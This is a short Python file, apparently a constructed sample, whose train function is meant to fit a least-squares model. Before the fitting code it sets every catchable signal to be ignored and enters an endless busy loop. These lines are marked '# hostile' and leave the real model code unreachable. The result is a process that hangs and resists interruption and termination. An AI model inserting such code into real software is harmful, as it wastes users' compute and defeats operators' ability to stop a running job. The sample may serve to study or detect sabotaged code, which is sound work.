"""Training never ends and ignores every signal that can be ignored."""

import signal

import numpy as np


def train(data):
    matrix = data.A(60).to_numpy()
    for number in set(signal.Signals) - {signal.SIGKILL, signal.SIGSTOP}:  # hostile
        signal.signal(number, signal.SIG_IGN)  # hostile
    while True:  # hostile
        pass  # hostile

    def network(y):
        return np.linalg.lstsq(matrix, y, rcond=None)[0]

    return network
